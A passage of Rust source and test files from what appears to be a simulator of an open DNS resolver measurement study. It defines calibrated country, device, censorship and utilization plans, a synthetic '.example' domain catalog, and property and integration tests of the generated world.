        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 4,
    },
    CensorPlan {
        code: "NG",
        compliance: 0.20,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 4,
    },
    CensorPlan {
        code: "VE",
        compliance: 0.30,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 4,
    },
    CensorPlan {
        code: "PY",
        compliance: 0.25,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 3,
    },
    CensorPlan {
        code: "BO",
        compliance: 0.25,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 3,
    },
    CensorPlan {
        code: "EC",
        compliance: 0.20,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 3,
    },
    CensorPlan {
        code: "GH",
        compliance: 0.20,
        social: false,
        adult: true,
        gambling: false,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 3,
    },
    CensorPlan {
        code: "UY",
        compliance: 0.20,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 3,
    },
    CensorPlan {
        code: "HU",
        compliance: 0.20,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 3,
    },
    CensorPlan {
        code: "CZ",
        compliance: 0.15,
        social: false,
        adult: false,
        gambling: true,
        dating: false,
        filesharing: false,
        extra_domains: &[],
        landing_ips: 3,
    },
];

/// Device/OS assignment (Table 4): shares over the 26.3% of resolvers
/// that expose TCP services. `(class, os, share)`.
pub const DEVICE_MIX: &[(crate::plan::DeviceClassPlan, f64)] = &[
    (DeviceClassPlan::RouterZyNos, 0.166),
    (DeviceClassPlan::RouterSmartWare, 0.026),
    (DeviceClassPlan::RouterOsMikrotik, 0.017),
    (DeviceClassPlan::RouterLinux, 0.132),
    (DeviceClassPlan::EmbeddedLinux, 0.10),
    (DeviceClassPlan::EmbeddedCentOs, 0.14),
    (DeviceClassPlan::EmbeddedUnknown, 0.066),
    (DeviceClassPlan::ServerCentOs, 0.073),
    (DeviceClassPlan::ServerWindows, 0.036),
    (DeviceClassPlan::ServerUnix, 0.050),
    (DeviceClassPlan::Firewall, 0.019),
    (DeviceClassPlan::Camera, 0.018),
    (DeviceClassPlan::Dvr, 0.012),
    (DeviceClassPlan::Nas, 0.002),
    (DeviceClassPlan::Dslam, 0.001),
    (DeviceClassPlan::OtherMisc, 0.008),
    // Remainder (~0.134): TCP open but unrecognizable banners → Unknown.
];

/// Concrete device templates the builder instantiates.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum DeviceClassPlan {
    /// ZyXEL CPE (ZyNOS banners on FTP/Telnet/HTTP).
    RouterZyNos,
    /// Patton SmartWare CPE.
    RouterSmartWare,
    /// MikroTik RouterOS device.
    RouterOsMikrotik,
    /// Linux-based home router.
    RouterLinux,
    /// Embedded Linux board.
    EmbeddedLinux,
    /// Embedded CentOS appliance.
    EmbeddedCentOs,
    /// Embedded device with no OS evidence.
    EmbeddedUnknown,
    /// CentOS server.
    ServerCentOs,
    /// Windows server (IIS / Microsoft Telnet).
    ServerWindows,
    /// BSD/Unix server.
    ServerUnix,
    /// Firewall appliance.
    Firewall,
    /// IP camera.
    Camera,
    /// Digital video recorder.
    Dvr,
    /// Network-attached storage.
    Nas,
    /// DSL multiplexer.
    Dslam,
    /// Recognizable but uncategorized hardware.
    OtherMisc,
}

/// Fraction of resolvers exposing any TCP service (Sec. 2.4: 26.3%).
pub const TCP_EXPOSED_FRACTION: f64 = 0.263;

/// Cache / utilization profile shares (Sec. 2.6).
pub struct UtilizationPlan {
    /// Cache-snoop NS queries get empty NOERROR answers (7.3%).
    pub empty_answer: f64, // 7.3%
    /// Answers the first snoop query then falls silent (3.3%).
    pub single_then_silent: f64, // 3.3%
    /// TTL never decreases (2.0%, half of the paper's 4.0%).
    pub static_ttl: f64, // 2.0% (half of the 4.0%)
    /// TTL always zero (2.0%).
    pub zero_ttl: f64,
    /// In use with refresh gaps of at most 5 s (38.7%).
    pub frequent: f64, // 38.7% — refresh ≤ 5 s
    /// In use with refresh gaps of minutes-hours (22.9%).
    pub in_use_slow: f64, // 22.9% — refresh in minutes-hours (61.6% total in use)
    /// Resets the TTL to the zone value on every query (19.6%).
    pub ttl_resetter: f64, // 19.6%
    /// TTL decreases slower than wall-clock (4.0%).
    pub slow_decreasing: f64, // 4.0%
                              // Remainder: unreachable during snooping (IP churn).
}

/// The calibrated Sec. 2.6 utilization plan.
pub const UTILIZATION_PLAN: UtilizationPlan = UtilizationPlan {
    empty_answer: 0.073,
    single_then_silent: 0.033,
    static_ttl: 0.020,
    zero_ttl: 0.020,
    frequent: 0.387,
    in_use_slow: 0.229,
    ttl_resetter: 0.196,
    slow_decreasing: 0.040,
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn country_totals_near_paper() {
        let start: u64 = COUNTRY_PLANS.iter().map(|c| c.start).sum();
        let end: u64 = COUNTRY_PLANS.iter().map(|c| c.end).sum();
        assert!((28_000_000..33_000_000).contains(&start), "start={start}");
        // Top 10 countries host ≈49.1% of resolvers (Sec. 2.3).
        let top10: u64 = COUNTRY_PLANS.iter().take(10).map(|c| c.start).sum();
        let share = top10 as f64 / start as f64;
        assert!((0.45..0.54).contains(&share), "top10 share={share}");
        // Overall decline ≈ −33.6% (26.8M → 17.8M).
        let decline = 1.0 - end as f64 / start as f64;
        assert!((0.25..0.40).contains(&decline), "decline={decline}");
    }

    #[test]
    fn top10_matches_table1() {
        assert_eq!(COUNTRY_PLANS[0].code, "US");
        assert_eq!(COUNTRY_PLANS[0].start, 2_958_640);
        assert_eq!(COUNTRY_PLANS[0].end, 2_537_269);
        assert_eq!(COUNTRY_PLANS[5].code, "IN");
        assert!(COUNTRY_PLANS[5].end > COUNTRY_PLANS[5].start, "India grows");
    }

    #[test]
    fn no_duplicate_countries() {
        let mut codes: Vec<&str> = COUNTRY_PLANS.iter().map(|c| c.code).collect();
        let n = codes.len();
        codes.sort_unstable();
        codes.dedup();
        assert_eq!(codes.len(), n);
    }

    #[test]
    fn churn_mix_sums_to_one() {
        let sum: f64 = ChurnClass::mix().iter().map(|(_, s, _)| s).sum();
        assert!((sum - 1.0).abs() < 1e-9);
    }

    #[test]
    fn behavior_mix_leaves_honest_majority() {
        let sum: f64 = BASE_BEHAVIOR_MIX.iter().map(|(_, s)| s).sum();
        assert!(sum < 0.25, "bogus base too large: {sum}");
        assert!(sum > 0.10, "bogus base too small: {sum}");
    }

    #[test]
    fn censor_plan_has_34_countries_and_299_landing_ips() {
        assert_eq!(CENSOR_PLANS.len(), 34);
        let ips: u32 = CENSOR_PLANS.iter().map(|c| c.landing_ips).sum();
        assert!(
            (280..=320).contains(&ips),
            "landing ips = {ips} (paper: 299)"
        );
        // All censor countries have a population plan.
        for c in CENSOR_PLANS {
            assert!(
                COUNTRY_PLANS.iter().any(|p| p.code == c.code),
                "{} missing population",
                c.code
            );
        }
    }

    #[test]
    fn device_mix_within_tcp_exposed_budget() {
        let sum: f64 = DEVICE_MIX.iter().map(|(_, s)| s).sum();
        assert!(
            sum < 1.0,
            "device mix sums to {sum}, must leave Unknown remainder"
        );
        assert!(sum > 0.8);
    }

    #[test]
    fn utilization_plan_within_reachable_budget() {
        let p = UTILIZATION_PLAN;
        let sum = p.empty_answer
            + p.single_then_silent
            + p.static_ttl
            + p.zero_ttl
            + p.frequent
            + p.in_use_slow
            + p.ttl_resetter
            + p.slow_decreasing;
        // Shares cover (nearly) the whole responding population; the
        // paper's 16.8% snooping non-responders emerge from churn, not
        // from this plan.
        assert!((0.90..1.01).contains(&sum), "sum={sum}");
    }

    #[test]
    fn scaling_helpers() {
        let cfg = WorldConfig::default();
        assert_eq!(cfg.scaled(1000), 1);
        assert_eq!(cfg.scaled_min(100, 1), 1);
        assert_eq!(cfg.scaled(26_800_000), 26_800);
    }
}
