//! The scanned-domain catalog: 155 domains in 13 categories (Sec. 3.2)
//! plus the ground-truth domain and the scanner's wildcard zone.
//!
//! Domain names are synthetic (`.example` space) but mirror the paper's
//! composition exactly: 9 Ads, 4 Adult, 20 Alexa, 15 Antivirus,
//! 20 Banking, 3 Dating, 5 Filesharing, 4 Gambling, 13 Malware, 13 MX
//! hostnames (6 providers), 21 NX (8 nonexistent + 5 NX subdomains of
//! popular domains + 8 typo-squats), 5 Tracking, 22 Misc — 154 + GT.

use resolversim::DomainCategory;
use serde::{Deserialize, Serialize};

/// One catalog entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CatalogDomain {
    /// Lower-case FQDN.
    pub name: String,
    /// Scan category (Table 5 rows).
    pub category: DomainCategory,
    /// Whether the name legitimately exists (NX entries do not).
    pub exists: bool,
    /// Mail hostname (IMAP/POP3/SMTP probing target).
    pub is_mail_host: bool,
    /// Served by a CDN (region-dependent answers).
    pub cdn: bool,
}

impl CatalogDomain {
    fn site(name: &str, category: DomainCategory) -> Self {
        CatalogDomain {
            name: name.to_string(),
            category,
            exists: true,
            is_mail_host: false,
            cdn: false,
        }
    }

    fn cdn_site(name: &str, category: DomainCategory) -> Self {
        CatalogDomain {
            cdn: true,
            ..Self::site(name, category)
        }
    }

    fn mail(name: &str) -> Self {
        CatalogDomain {
            name: name.to_string(),
            category: DomainCategory::Mx,
            exists: true,
            is_mail_host: true,
            cdn: false,
        }
    }

    fn nx(name: &str) -> Self {
        CatalogDomain {
            name: name.to_string(),
            category: DomainCategory::Nx,
            exists: false,
            is_mail_host: false,
            cdn: false,
        }
    }
}

/// The full catalog.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DomainCatalog {
    /// All scanned domains (154 + ground truth).
    pub domains: Vec<CatalogDomain>,
    /// The measurement team's own domain (AuthNS under our control).
    pub ground_truth: String,
    /// Wildcard zone used by the enumeration scan
    /// (`<random>.<hex-ip>.<scan_zone>`).
    pub scan_zone: String,
}

impl DomainCatalog {
    /// Build the standard catalog.
    pub fn standard() -> Self {
        let mut d = Vec::with_capacity(156);

        // Ads (9).
        for name in [
            "adnet-one.example",
            "adnet-two.example",
            "bannerfarm.example",
            "clicktrace.example",
            "popserve.example",
            "adsyndicate.example",
            "promoload.example",
            "pixelpush.example",
            "admesh.example",
        ] {
            d.push(CatalogDomain::site(name, DomainCategory::Ads));
        }

        // Adult (4).
        for name in [
            "youporn.example",
            "adultfinder.example",
            "nightvid.example",
            "redlounge.example",
        ] {
            d.push(CatalogDomain::site(name, DomainCategory::Adult));
        }

        // Alexa Top 20 (CDN-heavy).
        let alexa = [
            ("google.example", true),
            ("facebook.example", true),
            ("youtube.example", true),
            ("twitter.example", true),
            ("baidu.example", false),
            ("wikipedia.example", true),
            ("amazon.example", true),
            ("qq.example", false),
            ("linkedin.example", true),
            ("taobao.example", false),
            ("blogspot.example", true),
            ("yandexsite.example", false),
            ("bing.example", true),
            ("instagram.example", true),
            ("vk.example", false),
            ("sohu.example", false),
            ("pinterest.example", true),
            ("reddit.example", true),
            ("ebaymain.example", true),
            ("msn.example", true),
        ];
        for (name, cdn) in alexa {
            d.push(if cdn {
                CatalogDomain::cdn_site(name, DomainCategory::Alexa)
            } else {
                CatalogDomain::site(name, DomainCategory::Alexa)
            });
        }

        // Antivirus / protection vendors (15).
        for i in 1..=13 {
            d.push(CatalogDomain::site(
                &format!("avvendor{i:02}.example"),
                DomainCategory::Antivirus,
            ));
        }
        d.push(CatalogDomain::site(
            "update.avvendor01.example",
            DomainCategory::Antivirus,
        ));
        d.push(CatalogDomain::site(
            "sigs.avvendor02.example",
            DomainCategory::Antivirus,
        ));

        // Banking / payment (20).
        let banks = [
            "paypal.example",
            "alipay.example",
            "ebaypay.example",
            "chasebank.example",
            "hsbcbank.example",
            "santanderbank.example",
            "unicreditbank.example",
            "bancaditalia.example",
            "deutschebank.example",
            "wellsbank.example",
            "citigroupbank.example",
            "barclaysbank.example",
            "bnpbank.example",
            "ingbank.example",
            "ubsbank.example",
            "sberbank.example",
            "itaubank.example",
            "icbcbank.example",
            "mizuhobank.example",
            "visacards.example",
        ];
        for name in banks {
            d.push(CatalogDomain::site(name, DomainCategory::Banking));
        }

        // Dating (3).
        for name in ["matchme.example", "okcupid.example", "loveconnect.example"] {
            d.push(CatalogDomain::site(name, DomainCategory::Dating));
        }

        // Filesharing (5).
        for name in [
            "kickass.example",
            "thepiratebay.example",
            "torproject.example",
            "rapidload.example",
            "megashare.example",
        ] {
            d.push(CatalogDomain::site(name, DomainCategory::Filesharing));
        }

        // Gambling (4).
        for name in [
            "bet-at-home.example",
            "pokerstars.example",
            "luckyspin.example",
            "oddsmaker.example",
        ] {
            d.push(CatalogDomain::site(name, DomainCategory::Gambling));
        }

        // Malware (13; the first two are the lapsed Chinese domains that
        // now point at parking providers, cf. Sec. 4.2 "Parking").
        for name in [
            "cn-dropzone.example",
            "cn-cmdhost.example",
            "irc.zief.example",
            "botcnc1.example",
            "botcnc2.example",
            "exploitkit.example",
            "drivebyhost.example",
            "spamgate.example",
            "fakeavpush.example",
            "trojandrop.example",
            "wormrelay.example",
            "dgaseed.example",
            "maldistrib.example",
        ] {
            d.push(CatalogDomain::site(name, DomainCategory::Malware));
        }

        // MX hostnames: 13 across 6 providers (Sec. 3.2).
        for name in [
            "smtp.gmail.example",
            "imap.gmail.example",
            "pop.gmail.example",
            "smtp.outlook.example",
            "imap.outlook.example",
            "smtp.yahoo.example",
            "imap.yahoo.example",
            "smtp.yandex.example",
            "imap.yandex.example",
            "pop.yandex.example",
            "smtp.aim.example",
            "imap.mailme.example",
            "smtp.mailme.example",
        ] {
            d.push(CatalogDomain::mail(name));
        }

        // NX: 8 nonexistent + 5 NX subdomains + 8 typos (21).
        for name in [
            "qzxkjv.example",
            "nxprobe1.example",
            "nxprobe2.example",
            "nxprobe3.example",
            "nxprobe4.example",
            "nxprobe5.example",
            "nxprobe6.example",
            "nxprobe7.example",
            "rswkllf.twitter.example",
            "zzz9.facebook.example",
            "qqq1.google.example",
            "xvx.wikipedia.example",
            "nxsub.amazon.example",
            "amason.example",
            "ghoogle.example",
            "wikipeida.example",
            "facebok.example",
            "tvitter.example",
            "youtubee.example",
            "paypaal.example",
            "amazonn.example",
        ] {
            d.push(CatalogDomain::nx(name));
        }

        // Tracking (5).
        for name in [
            "bluecava-track.example",
            "threatmetrix-track.example",
            "fingerprintjs.example",
            "beaconstat.example",
            "sessionpeek.example",
        ] {
            d.push(CatalogDomain::site(name, DomainCategory::Tracking));
        }

        // Miscellaneous (22): update servers, intelligence agencies,
        // OAuth services, individual sites.
        for name in [
            "update.adobe.example",
            "update.windows.example",
            "update.java.example",
            "update.chrome.example",
            "update.firefox.example",
            "update.flashplayer.example",
            "nsa-agency.example",
            "gchq-agency.example",
            "mossad-agency.example",
            "oauth.amazon.example",
            "oauth.google.example",
            "oauth.twitter.example",
            "rotten.example",
            "wikileaks.example",
            "pastebin.example",
            "archive.example",
            "newsportal.example",
            "weatherhub.example",
            "cryptoforum.example",
            "translate.example",
            "mapservice.example",
            "stockticker.example",
        ] {
            d.push(CatalogDomain::site(name, DomainCategory::Misc));
        }

        DomainCatalog {
            domains: d,
            ground_truth: "gt.gwild.example".to_string(),
            scan_zone: "scan.gwild.example".to_string(),
        }
    }

    /// Number of scannable domains (including GT).
    pub fn total_with_gt(&self) -> usize {
        self.domains.len() + 1
    }

    /// Domains of one category.
    pub fn in_category(&self, c: DomainCategory) -> Vec<&CatalogDomain> {
        self.domains.iter().filter(|d| d.category == c).collect()
    }

    /// The domain names a censorship case study keys on.
    pub fn social_media(&self) -> [&'static str; 3] {
        ["facebook.example", "twitter.example", "youtube.example"]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn composition_matches_paper() {
        let c = DomainCatalog::standard();
        let count = |cat| c.in_category(cat).len();
        assert_eq!(count(DomainCategory::Ads), 9);
        assert_eq!(count(DomainCategory::Adult), 4);
        assert_eq!(count(DomainCategory::Alexa), 20);
        assert_eq!(count(DomainCategory::Antivirus), 15);
        assert_eq!(count(DomainCategory::Banking), 20);
        assert_eq!(count(DomainCategory::Dating), 3);
        assert_eq!(count(DomainCategory::Filesharing), 5);
        assert_eq!(count(DomainCategory::Gambling), 4);
        assert_eq!(count(DomainCategory::Malware), 13);
        assert_eq!(count(DomainCategory::Mx), 13);
        assert_eq!(count(DomainCategory::Nx), 21);
        assert_eq!(count(DomainCategory::Tracking), 5);
        assert_eq!(count(DomainCategory::Misc), 22);
        assert_eq!(c.domains.len(), 154);
        assert_eq!(c.total_with_gt(), 155);
    }

    #[test]
    fn names_unique_and_lowercase() {
        let c = DomainCatalog::standard();
        let mut names: Vec<&str> = c.domains.iter().map(|d| d.name.as_str()).collect();
        names.push(&c.ground_truth);
        let before = names.len();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), before, "duplicate catalog names");
        assert!(names.iter().all(|n| *n == n.to_ascii_lowercase()));
    }

    #[test]
    fn nx_entries_do_not_exist() {
        let c = DomainCatalog::standard();
        assert!(c.in_category(DomainCategory::Nx).iter().all(|d| !d.exists));
        assert!(c
            .in_category(DomainCategory::Banking)
            .iter()
            .all(|d| d.exists));
    }

    #[test]
    fn mail_hosts_flagged() {
        let c = DomainCatalog::standard();
        assert!(c
            .in_category(DomainCategory::Mx)
            .iter()
            .all(|d| d.is_mail_host));
        assert_eq!(
            c.domains.iter().filter(|d| d.is_mail_host).count(),
            13,
            "only MX entries are mail hosts"
        );
    }

    #[test]
    fn social_media_present_in_alexa() {
        let c = DomainCatalog::standard();
        for s in c.social_media() {
            assert!(
                c.domains
                    .iter()
                    .any(|d| d.name == s && d.category == DomainCategory::Alexa),
                "{s}"
            );
        }
    }

    #[test]
    fn cdn_flag_only_on_existing_sites() {
        let c = DomainCatalog::standard();
        assert!(c.domains.iter().filter(|d| d.cdn).all(|d| d.exists));
        assert!(c.domains.iter().any(|d| d.cdn), "catalog needs CDN domains");
    }
}
