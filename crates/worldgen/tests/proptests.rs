//! Property-based invariants of world generation: whatever the seed,
//! a built world must be internally consistent — the oracle-blind
//! pipeline depends on these invariants holding.

use geodb::is_reserved;
use proptest::prelude::*;
use std::collections::BTreeSet;
use worldgen::{build_world, WorldConfig};

proptest! {
    // World building is the expensive step; a handful of seeds already
    // exercises every allocation path.
    #![proptest_config(ProptestConfig { cases: 6, ..ProptestConfig::default() })]

    /// Every resolver address is unique, inside the scannable space, and
    /// never in reserved (RFC 5735) or scanner address space.
    #[test]
    fn resolver_addresses_are_valid_and_unique(seed in 1u64..1_000_000) {
        let world = build_world(WorldConfig::tiny(seed));
        let ranges = world.scannable_ranges().to_vec();
        let mut seen = BTreeSet::new();
        for meta in &world.resolvers {
            let ip = meta.initial_ip;
            prop_assert!(seen.insert(ip), "duplicate resolver address {ip}");
            prop_assert!(!is_reserved(ip), "reserved address {ip}");
            prop_assert!(
                ip.octets()[0] != world.scanner_ip.octets()[0]
                    && ip.octets()[0] != world.scanner2_ip.octets()[0],
                "resolver {ip} inside a scanner /8"
            );
            let v = u32::from(ip);
            prop_assert!(
                ranges.iter().any(|&(lo, hi)| (u32::from(lo)..=u32::from(hi)).contains(&v)),
                "resolver {ip} outside the allocated space"
            );
        }
    }

    /// The geo database agrees with the generator: every resolver's IP
    /// maps back to the country the plan assigned it.
    #[test]
    fn geo_database_round_trips_country_assignment(seed in 1u64..1_000_000) {
        let world = build_world(WorldConfig::tiny(seed));
        for meta in &world.resolvers {
            let geo_cc = world.geo.country(meta.initial_ip);
            prop_assert_eq!(
                geo_cc,
                Some(meta.country),
                "geo lookup for {} disagrees with the plan",
                meta.initial_ip
            );
        }
    }

    /// The opt-out blacklist never covers measurement infrastructure,
    /// and blacklisted resolvers are a small minority.
    #[test]
    fn blacklist_is_sane(seed in 1u64..1_000_000) {
        let world = build_world(WorldConfig::tiny(seed));
        let bl = |ip: std::net::Ipv4Addr| {
            let v = u32::from(ip);
            world
                .blacklist_ranges
                .iter()
                .any(|&(lo, hi)| (u32::from(lo)..=u32::from(hi)).contains(&v))
                || world.blacklist_singles.contains(&ip)
        };
        prop_assert!(!bl(world.scanner_ip));
        prop_assert!(!bl(world.scanner2_ip));
        prop_assert!(!bl(world.infra.authns_ip));
        let blacklisted = world.resolvers.iter().filter(|m| bl(m.initial_ip)).count();
        prop_assert!(
            (blacklisted as f64) < 0.05 * world.resolvers.len() as f64,
            "{blacklisted} of {} resolvers opted out",
            world.resolvers.len()
        );
    }

    /// World generation is a pure function of (seed, scale): two builds
    /// with the same config agree on every resolver.
    #[test]
    fn builds_are_deterministic(seed in 1u64..1_000_000) {
        let a = build_world(WorldConfig::tiny(seed));
        let b = build_world(WorldConfig::tiny(seed));
        prop_assert_eq!(a.resolvers.len(), b.resolvers.len());
        for (x, y) in a.resolvers.iter().zip(&b.resolvers) {
            prop_assert_eq!(x.initial_ip, y.initial_ip);
            prop_assert_eq!(x.behavior, y.behavior);
            prop_assert_eq!(x.country, y.country);
            prop_assert_eq!(x.spawn_week, y.spawn_week);
            prop_assert_eq!(x.retire_week, y.retire_week);
        }
        prop_assert_eq!(a.blacklist_ranges, b.blacklist_ranges);
        prop_assert_eq!(a.infra.authns_ip, b.infra.authns_ip);
    }

    /// Different seeds shuffle the address layout but preserve the
    /// calibrated aggregate: population within a few percent, same
    /// country set.
    #[test]
    fn seeds_change_layout_not_calibration(seed in 1u64..1_000_000) {
        let a = build_world(WorldConfig::tiny(seed));
        let b = build_world(WorldConfig::tiny(seed.wrapping_add(7_919)));
        let (na, nb) = (a.resolvers.len() as f64, b.resolvers.len() as f64);
        prop_assert!(
            (na - nb).abs() / na.max(nb) < 0.05,
            "population diverged: {na} vs {nb}"
        );
        let countries = |w: &worldgen::World| -> BTreeSet<_> {
            w.resolvers.iter().map(|m| m.country).collect()
        };
        prop_assert_eq!(countries(&a), countries(&b));
    }
}
