//! Integration tests: the generated world is internally consistent and
//! exhibits the phenomena the measurement pipeline must recover.

use dnswire::{Message, MessageBuilder, Name, RecordType};
use netsim::{Datagram, SimTime};
use std::sync::atomic::Ordering;
use worldgen::{build_world, BehaviorKind, WorldConfig};

fn tiny_world() -> worldgen::World {
    build_world(WorldConfig::tiny(42))
}

#[test]
fn build_is_deterministic() {
    let a = build_world(WorldConfig::tiny(7));
    let b = build_world(WorldConfig::tiny(7));
    assert_eq!(a.stats, b.stats);
    let ips_a: Vec<_> = a.resolvers.iter().take(50).map(|m| m.initial_ip).collect();
    let ips_b: Vec<_> = b.resolvers.iter().take(50).map(|m| m.initial_ip).collect();
    assert_eq!(ips_a, ips_b);
    let kinds_a: Vec<_> = a.resolvers.iter().take(200).map(|m| m.behavior).collect();
    let kinds_b: Vec<_> = b.resolvers.iter().take(200).map(|m| m.behavior).collect();
    assert_eq!(kinds_a, kinds_b);
}

#[test]
fn different_seeds_differ() {
    let a = build_world(WorldConfig::tiny(1));
    let b = build_world(WorldConfig::tiny(2));
    let ips_a: Vec<_> = a.resolvers.iter().take(200).map(|m| m.behavior).collect();
    let ips_b: Vec<_> = b.resolvers.iter().take(200).map(|m| m.behavior).collect();
    assert_ne!(ips_a, ips_b);
}

#[test]
fn population_scales() {
    let w = tiny_world();
    // 26.8M × 0.0001 ≈ 2.7k NOERROR plus REFUSED/SERVFAIL riders; small
    // countries are clamped up, so allow generous bounds.
    assert!(w.stats.resolvers > 2_000, "{}", w.stats.resolvers);
    assert!(w.stats.resolvers < 8_000, "{}", w.stats.resolvers);
    assert!(w.stats.pools > 100);
    let counts = w.alive_counts();
    let noerror = counts[&worldgen::world::ResponseClass::NoError];
    let refused = counts[&worldgen::world::ResponseClass::Refused];
    assert!(noerror > refused * 5, "noerror={noerror} refused={refused}");
}

#[test]
fn resolvers_bound_and_answering() {
    let mut w = tiny_world();
    // Find an honest, initially-alive resolver and query it.
    let meta = w
        .resolvers
        .iter()
        .find(|m| m.behavior == BehaviorKind::Honest && m.spawn_week == 0)
        .expect("some honest resolver");
    let ip = w.resolver_ip(meta).unwrap();
    let sock = w.net.open_socket(w.scanner_ip, 40_000);
    let q =
        MessageBuilder::query(0xAB, Name::parse("paypal.example").unwrap(), RecordType::A).build();
    w.net
        .send_udp(Datagram::new(w.scanner_ip, 40_000, ip, 53, q.encode()));
    w.net.run_until(SimTime::from_secs(5));
    let (_, resp) = w.net.recv(sock).expect("answer from resolver");
    let msg = Message::decode(&resp.payload).unwrap();
    assert_eq!(msg.header.id, 0xAB);
    let legit = &w.infra.legit_ips["paypal.example"];
    assert!(msg.answer_ips().iter().all(|i| legit.contains(i)));
}

#[test]
fn gfw_injects_for_social_media_queries_into_cn() {
    let mut w = tiny_world();
    let meta = w
        .resolvers
        .iter()
        .find(|m| m.country == geodb::Country::new("CN") && m.spawn_week == 0)
        .expect("CN resolver");
    let ip = w.resolver_ip(meta).unwrap();
    let sock = w.net.open_socket(w.scanner_ip, 40_001);
    let q = MessageBuilder::query(
        0xCD,
        Name::parse("facebook.example").unwrap(),
        RecordType::A,
    )
    .build();
    w.net
        .send_udp(Datagram::new(w.scanner_ip, 40_001, ip, 53, q.encode()));
    w.net.run_until(SimTime::from_secs(5));
    let replies = w.net.recv_all(sock);
    assert!(
        !replies.is_empty(),
        "GFW must inject even if the resolver is mute"
    );
    let msg = Message::decode(&replies[0].1.payload).unwrap();
    let legit = &w.infra.legit_ips["facebook.example"];
    assert!(
        msg.answer_ips().iter().all(|i| !legit.contains(i)),
        "first answer must be forged"
    );
}

#[test]
fn gfw_answers_even_unbound_cn_space() {
    // The paper's verification probe: random CN addresses "answer" for
    // censored names.
    let mut w = tiny_world();
    let (lo, _hi, _) = w
        .geo
        .blocks_iter()
        .find(|(_, _, b)| b.country == geodb::Country::new("CN"))
        .map(|(a, b, c)| (a, b, c.clone()))
        .expect("CN block");
    // Use the block's last address — likely pool slack, often unbound.
    let probe_ip = lo;
    let sock = w.net.open_socket(w.scanner_ip, 40_002);
    let q =
        MessageBuilder::query(1, Name::parse("twitter.example").unwrap(), RecordType::A).build();
    w.net.send_udp(Datagram::new(
        w.scanner_ip,
        40_002,
        probe_ip,
        53,
        q.encode(),
    ));
    w.net.run_until(SimTime::from_secs(5));
    let replies = w.net.recv_all(sock);
    assert!(!replies.is_empty());
}

#[test]
fn churn_moves_resolvers_within_weeks() {
    let mut w = tiny_world();
    let initial: Vec<_> = w
        .resolvers
        .iter()
        .filter(|m| m.response_class == worldgen::world::ResponseClass::NoError)
        .take(500)
        .map(|m| (m.host, m.initial_ip))
        .collect();
    w.advance_to_week(1);
    let moved = initial
        .iter()
        .filter(|(host, ip0)| {
            let now = w.net.ips_of(*host).first().copied();
            now != Some(*ip0)
        })
        .count();
    let frac = moved as f64 / initial.len() as f64;
    assert!(
        (0.30..0.75).contains(&frac),
        "week-1 churn fraction {frac} (paper: 52.2%)"
    );
}

#[test]
fn lifecycle_events_fire() {
    let mut w = tiny_world();
    let retiring: Vec<usize> = w
        .resolvers
        .iter()
        .enumerate()
        .filter(|(_, m)| m.retire_week == Some(2))
        .map(|(i, _)| i)
        .collect();
    if retiring.is_empty() {
        // Tiny world may have no week-2 retirees; at least check spawn.
        return;
    }
    for &i in &retiring {
        assert!(w.resolvers[i].alive.load(Ordering::Relaxed));
    }
    w.advance_to_week(3);
    for &i in &retiring {
        assert!(!w.resolvers[i].alive.load(Ordering::Relaxed));
    }
}

#[test]
fn noerror_population_declines_over_year() {
    let mut w = tiny_world();
    let at = |w: &worldgen::World| {
        w.alive_counts()
            .get(&worldgen::world::ResponseClass::NoError)
            .copied()
            .unwrap_or(0)
    };
    let start = at(&w);
    w.advance_to_week(54);
    let end = at(&w);
    let decline = 1.0 - end as f64 / start as f64;
    assert!(
        (0.15..0.50).contains(&decline),
        "decline {decline} (paper: ≈0.34)"
    );
}

#[test]
fn universe_covers_catalog() {
    let w = tiny_world();
    for d in &w.catalog.domains {
        if d.exists {
            assert!(
                w.universe.record(&d.name).is_some(),
                "{} missing from universe",
                d.name
            );
            assert!(
                w.infra.legit_ips.contains_key(&d.name),
                "{} missing oracle ips",
                d.name
            );
        } else {
            assert!(w
                .universe
                .record(&d.name)
                .map(|r| matches!(r.kind, resolversim::DomainKind::NonExistent))
                .unwrap_or(true));
        }
    }
}

#[test]
fn geo_and_rdns_cover_resolvers() {
    let w = tiny_world();
    let mut geo_hits = 0;
    let mut rdns_hits = 0;
    for m in w.resolvers.iter().take(1000) {
        if w.geo.country(m.initial_ip) == Some(m.country) {
            geo_hits += 1;
        }
        if w.rdns.lookup(m.initial_ip).is_some() {
            rdns_hits += 1;
        }
    }
    let n = w.resolvers.len().min(1000);
    assert!(geo_hits as f64 / n as f64 > 0.95, "geo hits {geo_hits}/{n}");
    assert!(rdns_hits > n / 4, "rdns hits {rdns_hits}/{n}");
}

#[test]
fn infra_groups_nonempty() {
    let w = tiny_world();
    assert_eq!(w.infra.proxy_tls_ips.len(), 10);
    assert_eq!(w.infra.proxy_http_ips.len(), 10);
    assert_eq!(w.infra.phish_ips.len(), 39);
    assert_eq!(w.infra.malware_update_ips.len(), 30);
    assert!(
        w.infra.landing_ips.len() >= 30,
        "{}",
        w.infra.landing_ips.len()
    );
    let landing_total: usize = {
        // EE aliases RU's pages; count distinct IPs.
        let mut all: Vec<_> = w
            .infra
            .landing_ips
            .values()
            .flat_map(|v| v.iter().copied())
            .collect();
        all.sort_unstable();
        all.dedup();
        all.len()
    };
    assert!(
